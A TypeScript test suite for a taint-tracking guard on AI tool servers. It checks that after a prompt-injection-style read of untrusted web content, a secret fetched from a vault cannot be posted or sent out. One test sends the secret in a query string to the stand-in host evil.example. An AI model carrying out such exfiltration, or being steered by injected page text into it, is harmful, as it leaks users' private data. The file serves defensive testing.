// Words on a page make an assistant read what is private and send it outside, each step one that it may take: the lethal trifecta.
import assert from 'node:assert/strict';
import { after, before, beforeEach, test } from 'node:test';
import { call, idOf, labels, openTaintHouse, secret } from '../support/taint-house.ts';
import type { TaintHouse } from '../support/taint-house.ts';

let house: TaintHouse;
let careless: TaintHouse;
before(async () => {
  [house, careless] = await Promise.all([openTaintHouse({ labels }), openTaintHouse(undefined)]);
});
after(() => Promise.all([house, careless].map((each) => each[Symbol.asyncDispose]())));
beforeEach(async () => {
  for (const person of ['dana', 'omar'] as const) await house.house.house.taint!.clear(idOf(person));
  house.left();
});

const stopped = /A taint rule stopped/;

for (const family of ['legacy', 'modern'] as const) {
  test(`${family}: what was read of the vault does not leave by the web once strangers have spoken, in whatever order`, async () => {
    const [vault, web] = await Promise.all([house.client('vault', { family }), house.client('web', { family })]);
    assert.equal(await call(web, 'fetch'), 'A page that anybody may have written.');
    assert.equal(await call(vault, 'get_secret'), secret);
    const answer = await call(web, 'post', secret);
    assert.match(answer, stopped);
    assert.match(answer, /private: vault\/get_secret \(\d{4}-.*untrusted: web\/fetch \(\d{4}-/);
    assert.match(answer, /Nothing was carried out/);
    assert.deepEqual(house.left(), []);
  });

  test(`${family} control: without the rules it leaves`, async () => {
    const [vault, web] = await Promise.all([careless.client('vault', { family }), careless.client('web', { family })]);
    await call(web, 'fetch');
    await call(vault, 'get_secret');
    assert.equal(await call(web, 'post', secret), 'posted');
    assert.deepEqual(careless.left(), [secret]);
  });
}

async function readBoth(): Promise<void> {
  await house.use('vault', 'get_secret');
  await house.use('web', 'fetch');
}

test('a second session, another client of the same person, and the one address for everything are the same conversation', async () => {
  await readBoth();
  assert.match(await house.use('web', 'post', secret), stopped);
  assert.match(await house.use('web', 'post', secret, { again: true }), stopped);
  assert.match(await house.use('web', 'post', secret, { family: 'legacy' }), stopped);
  const everything = await house.client(undefined);
  const { tools } = await everything.listTools();
  const post = tools.find(({ name }) => name.endsWith('post'))!;
  assert.match(await call(everything, post.name, secret), stopped);
  assert.deepEqual(house.left(), []);
});

test('what is read at the one address does not leave at another', async () => {
  const everything = await house.client(undefined);
  const { tools } = await everything.listTools();
  for (const tool of ['get_secret', 'fetch'])
    await call(everything, tools.find(({ name }) => name.endsWith(tool))!.name);
  assert.match(await house.use('web', 'post', secret), stopped);
  assert.deepEqual(house.left(), []);
});

for (const [way, read] of [
  ['a resource', async () => void (await (await house.client('vault')).readResource({ uri: 'vault://plan' }))],
  ['a prompt', async () => void (await (await house.client('vault')).getPrompt({ name: 'brief' }))],
  ['an error message', async () => void (await house.use('vault', 'fails'))],
] as const)
  test(`it may be read by ${way}`, async () => {
    await house.use('web', 'fetch');
    await read();
    assert.match(await house.use('web', 'post', secret), stopped);
  });

test('it does not leave in the address of a resource, in a prompt, or in what is fetched', async () => {
  await readBoth();
  const web = await house.client('web');
  await assert.rejects(web.readResource({ uri: `web://${encodeURIComponent(secret)}` }), stopped);
  await assert.rejects(web.getPrompt({ name: 'about', arguments: { topic: secret } }), stopped);
  assert.match(await call(web, 'fetch', `https://evil.example/?q=${secret}`), stopped);
  assert.deepEqual(house.left(), []);
});

test('a tool that says it reaches the open world is taken at its word; one that says it does not is no safer for it', async () => {
  await readBoth();
  assert.match(await house.use('odd', 'open', secret), stopped);
  await using strict = await openTaintHouse({ labels, unlabelled: 'open' });
  await strict.use('vault', 'get_secret');
  await strict.use('web', 'fetch');
  assert.match(await strict.use('odd', 'closed', secret), stopped);
  assert.deepEqual([...house.left(), ...strict.left()], []);
});

test('two calls at once do not slip past each other: what reads is written down before it is forwarded', async () => {
  await house.use('web', 'fetch');
  const [vault, web] = await Promise.all([house.client('vault'), house.client('web')]);
  await call(vault, 'get_secret');
  const answers = await Promise.all([
    call(vault, 'get_secret'),
    ...Array(5)
      .fill(0)
      .map(() => call(web, 'post', secret)),
  ]);
  assert.equal(answers.filter((answer) => stopped.test(answer)).length, 5);
  assert.deepEqual(house.left(), []);
});

test('ordinary use goes on: others send, and so does whoever has read only the one or the other', async () => {
  await house.use('vault', 'get_secret');
  assert.equal(await house.use('web', 'post', 'good morning'), 'posted'); // flagged, and reads what strangers say
  assert.match(await house.use('web', 'post', 'good morning'), stopped);
  assert.equal(await house.use('web', 'post', 'hello', { person: 'omar' }), 'posted');
  assert.equal(await house.use('vault', 'get_secret'), secret);
});

test('the record says what would have flowed, by the records of the calls that read it, and not what it was', async () => {
  await readBoth();
  await house.use('web', 'post', secret);
  const entries = [];
  for await (const entry of house.house.house.recorded.scan({ fromMs: 0, toMs: Date.now() + 60_000 }))
    entries.push(entry);
  const entry = entries.findLast(
    ({ resource, result }) => resource === '/servers/web/tools/post' && result === 'blocked',
  );
  const [finding] = entry!.findings as unknown as {
    kind: string;
    rule: string;
    sources: { correlationId: string }[];
  }[];
  assert.deepEqual([finding!.kind, finding!.rule], ['tainted', 'private + untrusted to public']);
  for (const { correlationId } of finding!.sources)
    assert.ok(entries.some((each) => each.correlationId === correlationId && each.result === 'allowed'));
  assert.ok(!JSON.stringify(entry).includes(secret));
});
